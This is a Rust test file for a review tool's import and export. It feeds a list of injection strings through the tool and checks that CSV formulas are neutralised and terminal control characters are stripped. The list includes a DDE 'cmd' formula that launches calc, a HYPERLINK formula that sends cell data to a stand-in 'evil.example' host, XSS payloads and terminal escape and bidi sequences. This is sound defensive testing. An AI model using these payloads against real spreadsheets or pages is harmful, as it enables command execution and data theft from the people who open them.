//! Reviews into files, and back.

use crate::people::{import, reviews, run};
use serde_json::json;
use std::path::Path;

/// Texts that a spreadsheet, a terminal or a page could take for something else.
const INJECTIONS: [&str; 20] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    "\t=1+1 after a tab",
    "'=1+1",
    "''=1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{9b}2J",
    "\u{202e}txt.exe",
    "\u{2066}turned\u{2069}",
    "a\u{8}b\u{7f}c",
];

fn fill(data: &Path, folder: &Path) {
    let file = folder.join("injections.ndjson");
    let lines = INJECTIONS.iter().enumerate().map(|(number, text)| {
        let author = (!text.starts_with('\t')).then_some(text);
        json!({"id": format!("r{number:02}"), "subject": "film", "text": format!("x{text}"),
            "title": text, "author": author, "rating": 3,
            "written_at": "2013-02-01T00:00:00Z", "metadata": {"key": text}})
        .to_string()
    });
    std::fs::write(&file, lines.collect::<Vec<_>>().join("\n")).unwrap();
    let outcome = import(data, &file, &[]);
    assert_eq!((outcome.code, outcome.counts()), (0, [20, 0, 0]), "{}", outcome.err);
}

#[test]
fn no_cell_of_a_csv_is_a_formula_and_all_come_back() {
    let folder = tempfile::tempdir().unwrap();
    let [data, back] = ["data", "back"].map(|name| folder.path().join(name));
    fill(&data, folder.path());
    let file = folder.path().join("export.csv");
    let arguments = ["export", "--format", "csv", "--output", file.to_str().unwrap()];
    assert_eq!(run(&data, &arguments).code, 0);
    let mut reader = csv::Reader::from_path(&file).unwrap();
    let mut formulas = 0;
    for row in reader.records().map(Result::unwrap) {
        for cell in row.iter() {
            let is_number = cell.parse::<f64>().is_ok();
            let begins = cell.trim_start().starts_with(['=', '+', '-', '@', '＝']);
            assert!(is_number || !begins, "{cell:?}");
            formulas += usize::from(cell.starts_with('\''));
        }
    }
    assert_eq!(formulas, 19, "ten titles, and nine of their authors");
    let outcome = import(&back, &file, &[]);
    assert_eq!((outcome.code, outcome.counts()), (0, [20, 0, 0]), "{}", outcome.err);
    assert_eq!(reviews(&back), reviews(&data));
}

#[test]
fn no_text_commands_the_terminal() {
    let folder = tempfile::tempdir().unwrap();
    let data = folder.path().join("data");
    fill(&data, folder.path());
    let file = folder.path().join("texts.csv");
    let mut writer = csv::Writer::from_path(&file).unwrap();
    writer.write_record(["text", "subject", "\u{1b}[31mstars"]).unwrap();
    for text in INJECTIONS {
        writer.write_record([text, text, text]).unwrap();
    }
    writer.flush().unwrap();
    let refused = folder.path().join("refused.csv");
    let refused = ["--refused", refused.to_str().unwrap()];
    let mut told = vec![import(&data, &file, &[&["--dry-run"], &refused[..]].concat())];
    told.push(run(&data, &["summary", "\u{1b}[2J"]));
    told.push(run(&data, &["summary", "film"]));
    told.push(run(&data, &["subjects"]));
    for text in INJECTIONS {
        told.push(run(&data, &["score", &format!(" {text}")]));
        assert_eq!(told.last().unwrap().code, 0, "{told:?}");
    }
    for outcome in told {
        for text in [outcome.out, outcome.err] {
            let bad = text.chars().find(|c| {
                (c.is_control() && *c != '\n')
                    || ('\u{202a}'..='\u{202e}').contains(c)
                    || ('\u{2066}'..='\u{2069}').contains(c)
            });
            assert_eq!(bad, None, "{text:?}");
        }
    }
}

#[test]
fn filters_are_those_of_the_api() {
    let folder = tempfile::tempdir().unwrap();
    let (data, file) = (folder.path().join("data"), folder.path().join("reviews.csv"));
    let rows = "text,subject,source,date\nI loved it so much!,film,imdb,2013-02-01\n\
        I hated it. Horrible!,film,shop,2013-03-01\nI loved it so much!,other,imdb,2013-04-01\n";
    std::fs::write(&file, rows).unwrap();
    assert_eq!(import(&data, &file, &[]).code, 0);
    for (filters, expected) in [
        (&["--subject", "film"][..], 2),
        (&["--label", "negative"], 1),
        (&["--source", "imdb", "--from", "2013-03-01"], 1),
        (&["--to", "2013-03-01T00:00:00Z"], 1),
        (&["--min-score", "-1", "--max-score", "0"], 1),
        (&["--min-intensity", "0.0"], 3),
        (&["--subject", "nothing"], 0),
    ] {
        for format in ["ndjson", "csv"] {
            let arguments = [&["export", "--format", format], filters].concat();
            let outcome = run(&data, &arguments);
            let lines = outcome.out.lines().count() - usize::from(format == "csv");
            assert_eq!((outcome.code, lines), (0, expected), "{filters:?}: {}", outcome.err);
        }
    }
    for (filters, words) in [
        (["--label", "great"], "--label"),
        (["--min-score", "2"], "--min-score"),
        (["--from", "soon"], "--from"),
        (["--emotion", "hunger"], "--emotion"),
    ] {
        let outcome = run(&data, &[&["export"][..], &filters].concat());
        assert!(outcome.code == 2 && outcome.err.contains(words), "{filters:?}: {outcome:?}");
    }
    let outcome = run(&data, &["export", "--output", file.to_str().unwrap()]);
    assert!(outcome.code == 1 && outcome.err.contains("exists"), "{outcome:?}");
    assert!(std::fs::read_to_string(&file).unwrap().starts_with("text,"));
}
